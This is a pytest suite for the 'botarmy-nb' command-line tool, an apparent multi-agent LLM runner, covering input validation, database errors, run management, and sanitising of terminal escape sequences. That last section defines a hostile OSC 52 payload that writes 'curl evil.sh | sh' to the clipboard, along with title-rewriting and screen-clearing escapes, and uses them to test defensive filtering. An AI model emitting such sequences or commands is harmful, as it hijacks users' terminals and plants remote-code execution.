"""The botarmy-nb command, run as a real subprocess like a user would."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import time
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from botarmy_nb.store.database import create_store_engine
from botarmy_nb.store.migrate import current_revision, head_revision


def botarmy(
    *args: str,
    home: Path,
    env: dict[str, str] | None = None,
) -> subprocess.CompletedProcess[str]:
    exe = shutil.which("botarmy-nb", path=str(Path(sys.executable).parent)) or "botarmy-nb"
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("BOTARMY_")}
    full_env.update({"BOTARMY_HOME": str(home), **(env or {})})
    return subprocess.run([exe, *args], capture_output=True, text=True, env=full_env, timeout=120)


def test_demo_streams_and_says_where_the_data_is(botarmy_home: Path) -> None:
    result = botarmy("demo", home=botarmy_home)
    assert result.returncode == 0, result.stderr
    out = result.stdout
    assert out.index("── writer") < out.index("── critic")  # the conversation, in order
    assert "[scripted model]" in out and "offline scripted model, not a real LLM" in out
    assert "botarmy run demo · completed" in out
    assert f"sqlite:///{botarmy_home}/botarmy.db" in out
    artifacts = sorted((botarmy_home / "artifacts").glob("*/*.md"))
    assert [a.name for a in artifacts] == ["draft.md", "review.md"]
    assert str(artifacts[0]) in out
    assert result.stderr == ""


def test_run_with_team_and_vars(botarmy_home: Path) -> None:
    result = botarmy(
        "run",
        "Plan {{thing}}",
        "--team",
        "planning-room",
        "--var",
        "thing=a wiki",
        home=botarmy_home,
    )
    assert result.returncode == 0, result.stderr
    assert "Plan a wiki" in result.stdout and "── architect" in result.stdout


@pytest.mark.parametrize(
    "args, message",
    [
        (["run", "x", "--team", "nope"], "unknown team 'nope'"),
        (["run", "x", "--model", "gpt4"], "unknown provider 'gpt4'"),
        (["run", "x", "--var", "novalue"], "expected KEY=VALUE"),
        (["run", "x", "--var", "a=1", "--var", "a=2"], "a given twice ('1', '2')"),
        (["run", "x", "--max-turns", "0"], "0 is not in the range x>=1"),
    ],
)
def test_bad_input_is_one_clear_line(botarmy_home: Path, args: list[str], message: str) -> None:
    result = botarmy(*args, home=botarmy_home)
    assert result.returncode != 0
    assert message in result.stderr and "Traceback" not in result.stderr
    assert not (botarmy_home / "artifacts").exists()


def test_unreachable_database_hides_the_password(botarmy_home: Path) -> None:
    result = botarmy(
        "demo",
        home=botarmy_home,
        env={"BOTARMY_DATABASE_URL": "postgresql://me:s3cret@127.0.0.1:1/db"},
    )
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "cannot reach database postgresql+psycopg://me:***@127.0.0.1:1/db" in result.stderr
    assert "s3cret" not in result.stderr + result.stdout


def test_db_upgrade_on_postgres_then_status(botarmy_home: Path, pg_url: str) -> None:
    result = botarmy("db", "upgrade", home=botarmy_home, env={"BOTARMY_DATABASE_URL": pg_url})
    assert result.returncode == 0, result.stderr
    assert re.search(r"schema empty → \d{4}", result.stdout)
    engine = create_store_engine(pg_url)
    assert current_revision(engine) == head_revision(engine)
    engine.dispose()
    status = botarmy("status", home=botarmy_home, env={"BOTARMY_DATABASE_URL": pg_url})
    assert "✔ database" in status.stdout and f"(schema {head_revision(engine)})" in status.stdout


# -- terminal escapes from models, YAML files and errors (#7 item 11) ---------------------

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07"  # OSC 52: put "curl evil.sh | sh" there
TITLE = "\x1b]0;pwned\x1b\\"  # OSC 0, ST-terminated: the window title
HOSTILE_TASK = f"{CLIPBOARD}{TITLE}\x1b[2J\x9b31mPlan the wiki"
FORBIDDEN = ("\x1b", "\x07", "\x9b", "\x9d", "\x9c", "\r", "\x00")


def _assert_terminal_safe(text: str) -> None:
    found = [c for c in FORBIDDEN if c in text]
    assert not found, f"{found!r} reached the terminal"


@pytest.mark.parametrize(
    "raw, shown",
    [
        (CLIPBOARD + "ok", "ok"),
        (TITLE + "ok", "ok"),
        ("\x1b]0;unterminated title", "␛]0;unterminated title"),
        ("\x1bP1$qm\x1b\\dcs", "dcs"),  # DCS … ST
        ("\x1b[31mred\x1b[0m \x1b[2J\x1b[H", "red "),  # CSI: colour, clear, home
        ("\x9d0;c1 title\x9cx\x9b2Jy", "xy"),  # 8-bit C1 forms
        ("\x1bcreset", "reset"),  # RIS
        ("a\r\nb\rc\x00d\x7f\x08", "a\nb␍c␀d␡␈"),
        ("\x85next line", "\\x85next line"),
        ("tabs\tand\nnewlines stay ✔ → “quotes” 🙂", "tabs\tand\nnewlines stay ✔ → “quotes” 🙂"),
    ],
)
def test_terminal_safe_neutralises_control_sequences(raw: str, shown: str) -> None:
    from botarmy_nb.render import terminal_safe

    assert terminal_safe(raw) == shown
    assert terminal_safe(shown) == shown  # idempotent
    _assert_terminal_safe(shown)


def test_cli_runner_output_has_no_escapes_from_the_model(botarmy_home: Path) -> None:
    from click.testing import CliRunner

    import botarmy_nb as ba
    from botarmy_nb.cli import main

    result = CliRunner().invoke(main, ["run", HOSTILE_TASK, "--team", "writers-room"])
    assert result.exit_code == 0, result.output
    _assert_terminal_safe(result.output)
    assert "Plan the wiki" in result.output and "botarmy run" in result.output
    # the model really answered with the payload (stored as it was), and the terminal
    # got the neutralised text
    run = ba.get_run(str(ba.runs()["id"].iloc[0]))
    replies = run.messages.query("agent != 'user'")["content"]
    assert any(CLIPBOARD in text and TITLE in text for text in replies)
    assert re.search(r"^## \w+ 1: Plan the wiki$", result.output, re.M)


def test_piped_run_output_has_no_escapes(botarmy_home: Path) -> None:
    result = botarmy("run", HOSTILE_TASK, "--team", "writers-room", home=botarmy_home)
    assert result.returncode == 0, result.stderr
    _assert_terminal_safe(result.stdout + result.stderr)
    assert re.search(r"^## \w+ 1: Plan the wiki$", result.stdout, re.M)
    assert "botarmy run writers-room · completed" in result.stdout


def test_error_messages_have_no_escapes(botarmy_home: Path, tmp_path: Path) -> None:
    team = tmp_path / "team.yaml"
    team.write_text(f"name: t\nagents:\n  - name: a\n    {TITLE}role: x\n")
    for args in (["run", "x", "--team", str(team)], ["run", "x", "--team", TITLE]):
        result = botarmy(*args, home=botarmy_home)
        assert result.returncode != 0 and "Traceback" not in result.stderr
        assert result.stderr.startswith("Error: ")
        _assert_terminal_safe(result.stdout + result.stderr)


def test_a_reader_that_goes_away_ends_the_command(botarmy_home: Path) -> None:
    """``botarmy-nb run … | head -1``: no hang, no traceback, and the run is not left open."""
    exe = shutil.which("botarmy-nb", path=str(Path(sys.executable).parent)) or "botarmy-nb"
    env = {k: v for k, v in os.environ.items() if not k.startswith("BOTARMY_")}
    env["BOTARMY_HOME"] = str(botarmy_home)
    proc = subprocess.Popen(
        [exe, "run", "Plan the wiki", "--team", "writers-room"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=env,
    )
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.readline() == b"[running]\n"
    proc.stdout.close()  # what head does after its line
    assert proc.wait(timeout=60) == 1
    assert b"Traceback" not in proc.stderr.read()
    import botarmy_nb as ba

    assert ba.runs()["status"].iloc[0] in ("completed", "cancelled")


# -- the commands that agree with the magics (#9 item 7) ------------------------------------


def _cli(*args: str) -> Any:
    from click.testing import CliRunner

    from botarmy_nb.cli import main

    return CliRunner().invoke(main, list(args))


def test_every_usage_is_said_once() -> None:
    for command in ([], ["run"], ["runs"], ["show"], ["attach"], ["cancel"], ["resume"]):
        result = _cli(*command, "--help")
        assert result.exit_code == 0, result.output
        assert result.output.count("Usage: ") == 1
    listing = _cli("--help").output
    for command in ("run", "runs", "show", "attach", "cancel", "resume", "status", "demo", "db"):
        assert re.search(rf"^  {command}\s", listing, re.M), command


def test_status_choices_are_the_run_statuses() -> None:
    from botarmy_nb.cli import _STATUSES
    from botarmy_nb.events import RUN_STATUSES

    assert tuple(_STATUSES.choices) == RUN_STATUSES


def test_run_a_template_and_a_workflow_with_tags(botarmy_home: Path) -> None:
    import botarmy_nb as ba

    result = _cli(
        "run", "Write the PRD", "--template", "prd-tmpl", "--var", "project_name=Wiki",
        "--tag", "team=docs", "--tag", "try=1", "--hitl-timeout", "5", "--timeout", "600",
        "--priority", "3", "--queue", "docs", "--executor", "local",
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    record = ba.get_run(str(ba.runs()["id"].iloc[0])).record
    assert record.template == "prd-tmpl" and record.variables == {"project_name": "Wiki"}
    assert record.tags == {"team": "docs", "try": "1"}
    assert (record.priority, record.queue, record.timeout_s) == (3, "docs", 600.0)
    result = _cli("run", "Plan", "--workflow", "greenfield-service")
    assert result.exit_code != 0 and "needs values for: project_name" in result.output


@pytest.mark.parametrize(
    "args, message",
    [
        (["run", "x", "--executor", "spark"], "executor 'spark' is unknown; choose one of"),
        (["run", "x", "--priority", "12"], "12 is not in the range 0<=x<=9"),
        (["run", "x", "--timeout", "0"], "0 is not in the range x>0"),
        (["run", "x", "--tag", "novalue"], "expected KEY=VALUE"),
        (["run", "x", "--team", "writers-room", "--workflow", "w"], "give one of --team"),
        (["run", "x", "--detach"], "--detach needs a run that outlives this command"),
        (["run", "x", "--model", "a", "--model", "b"], "given twice for all agents"),
        (["runs", "--status", "bogus"], "'bogus' is not one of 'queued', 'running'"),
        (["runs", "--since", "last week"], "since='last week' is not a date"),
        (["runs", "--team", "writers-rom"], "did you mean 'writers-room'"),
        (["show", "nothing"], "no run 'nothing'"),
    ],
)
def test_bad_values_are_refused_with_the_valid_ones(
    botarmy_home: Path, args: list[str], message: str
) -> None:
    result = _cli(*args)
    assert result.exit_code != 0
    assert message in result.output and "Traceback" not in result.output
    assert not (botarmy_home / "artifacts").exists()


def test_runs_filters(botarmy_home: Path) -> None:
    import botarmy_nb as ba
    from botarmy_nb.store.base import open_store

    old = ba.run("Old", name="old", tags={"k": "v"}).wait(60)
    ba.run("Plan", name="plan", team="planning-room").wait(60)
    open_store().update_run(old.id, created_at=datetime(2026, 1, 5, 12, 0))

    def names(*args: str) -> list[str]:
        result = _cli("runs", *args)
        assert result.exit_code == 0, result.output
        return [line.split()[5] for line in result.output.splitlines() if "(" in line]

    assert names() == ["old", "plan"]
    assert names("--team", "planning-room") == ["plan"]
    assert names("--until", "2026-02-01") == ["old"]
    assert names("--since", "2026-02-01") == ["plan"]
    assert names("--tag", "k=v") == ["old"]
    assert names("--limit", "1") == ["plan"]
    assert names("--status", "failed") == []
    assert _cli("runs", "--status", "failed").output == "no runs match\n"


def test_one_run_commands_refuse_a_shared_name(botarmy_home: Path) -> None:
    import botarmy_nb as ba

    first = ba.run("One", name="demo").wait(60)
    second = ba.run("Two", name="demo").wait(60)
    for command in ("show", "attach", "cancel", "resume"):
        result = _cli(command, "demo")
        assert result.exit_code != 0, command
        assert "2 runs are named 'demo'" in result.output
        assert first.id[:8] in result.output and second.id[:8] in result.output
        assert f"{first.record.created_at:%Y-%m-%d %H:%M}" in result.output
    shown = _cli("show", first.id[:6])
    assert shown.exit_code == 0 and "One" in shown.output and "Two" not in shown.output
    assert "botarmy run demo · completed" in shown.output
    attached = _cli("attach", second.id)
    assert attached.exit_code == 0 and "[completed]" in attached.output
    assert "already ended: completed" in _cli("cancel", second.id[:8]).output
    resumed = _cli("resume", second.id[:8])
    assert resumed.exit_code != 0 and "already completed" in resumed.output


def test_resume_a_cancelled_run(botarmy_home: Path, slow_model: str) -> None:
    import botarmy_nb as ba

    run = ba.run("Slow", model=slow_model, name="slow")
    time.sleep(0.3)
    assert _cli("cancel", "slow").output.endswith("cancelled\n")
    result = _cli("resume", "slow")
    assert result.exit_code == 0, result.output
    assert run.status == "completed"
